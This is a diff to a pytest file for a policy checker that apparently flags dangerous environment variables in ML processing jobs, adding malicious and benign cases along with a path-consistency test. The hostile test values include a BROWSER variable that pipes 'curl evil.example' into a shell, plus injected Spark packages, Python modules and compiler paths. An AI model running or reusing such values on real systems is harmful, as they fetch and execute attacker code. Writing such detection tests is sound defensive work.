@@ -3,14 +3,19 @@
 from __future__ import annotations
 
 import json
+import re
 from pathlib import Path
 from typing import Any
 
 import pytest
+import yaml
 
 from guard.authoring.opa import Opa
 from guard.authoring.samples import complete_with
 from tests.support.policies import POLICIES, SHIPPED
+
+# What Spark reads as data, and writes.
+DATA = {"/opt/ml/processing/input/files", "/opt/ml/processing/spark-events"}
 
 
 @pytest.fixture
@@ -46,6 +51,12 @@ def _variable(name: str, value: str) -> dict[str, Any]:
             "GIT_SSH_COMMAND", "/opt/ml/input/data/x/s -i k", "loader_environment", id="a program of an input"
         ),
         pytest.param("CUDA_INJECTION64_PATH", "/opt/ml/code/e.so", "loader_environment", id="a library of CUDA"),
+        pytest.param("BROWSER", "/bin/sh -c 'curl evil.example|sh' #%s", "loader_environment", id="a command"),
+        pytest.param("PYSPARK_SUBMIT_ARGS", "--jars /opt/ml/input/data/x.jar a", "loader_environment", id="jars"),
+        pytest.param("PYSPARK_SUBMIT_ARGS", "--packages evil:x:1 a", "loader_environment", id="packages"),
+        pytest.param("SPARK_CONF_DIR", "/opt/ml/processing/input/conf", "loader_environment", id="settings of Spark"),
+        pytest.param("MPLBACKEND", "module://evil", "loader_environment", id="a module"),
+        pytest.param("CC", "/opt/ml/input/data/x/cc", "loader_environment", id="a compiler"),
         pytest.param("OMPI_MCA_plm_rsh_agent", "/opt/ml/code/e", "loader_environment", id="a program of MPI"),
         pytest.param("MODEL_ARGS", "pretrained=a/b,trust_remote_code=True", "remote_code", id="a switch in a value"),
         pytest.param("HF_KWARGS", '{"trust_remote_code": true}', "remote_code", id="a switch in JSON"),
@@ -62,9 +73,28 @@ def test_requirements_of_the_image_are_nobodys(findings: Any) -> None:
     assert [findings(rule, changes) for rule in ("remote_code", "loader_environment")] == [[], []]
 
 
-def test_programs_of_the_image_are_nobodys(findings: Any) -> None:
-    changes = _variable("GIT_SSH_COMMAND", "ssh -i /opt/ml/input/data/x/key -o StrictHostKeyChecking=no")
-    assert findings("loader_environment", changes) == []
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("GIT_SSH_COMMAND", "ssh -i /opt/ml/input/data/x/key -o StrictHostKeyChecking=no"),
+        ("PYSPARK_SUBMIT_ARGS", "--master local[*] --jars /usr/lib/spark/x.jar --driver-memory 4g pyspark-shell"),
+        ("MPLBACKEND", "agg"),
+        ("CC", "gcc"),
+        ("SPARK_SUBMIT_OPTS", "-Xmx4g"),
+    ],
+)
+def test_programs_of_the_image_are_nobodys(findings: Any, name: str, value: str) -> None:
+    assert findings("loader_environment", _variable(name, value)) == []
+
+
+def test_code_of_allowed_commands_is_code_to_the_rule_about_code() -> None:
+    """A path that one rule lets a job start, and that the other doesn't look at, would be everybody's."""
+    rules = yaml.safe_load((SHIPPED / POLICIES / "guard/config/data.yaml").read_text())["rules"]
+    allowed = json.dumps(rules["entrypoint_override"]["allowed"])
+    paths = set(re.findall(r"/opt/ml/(?:processing|input)/[\w/-]+", allowed)) - DATA
+    roots = rules["script_mode"]["code_paths"]
+    assert paths
+    assert [path for path in sorted(paths) if not f"{path}/".startswith(tuple(f"{root}/" for root in roots))] == []
 
 
 @pytest.mark.parametrize(
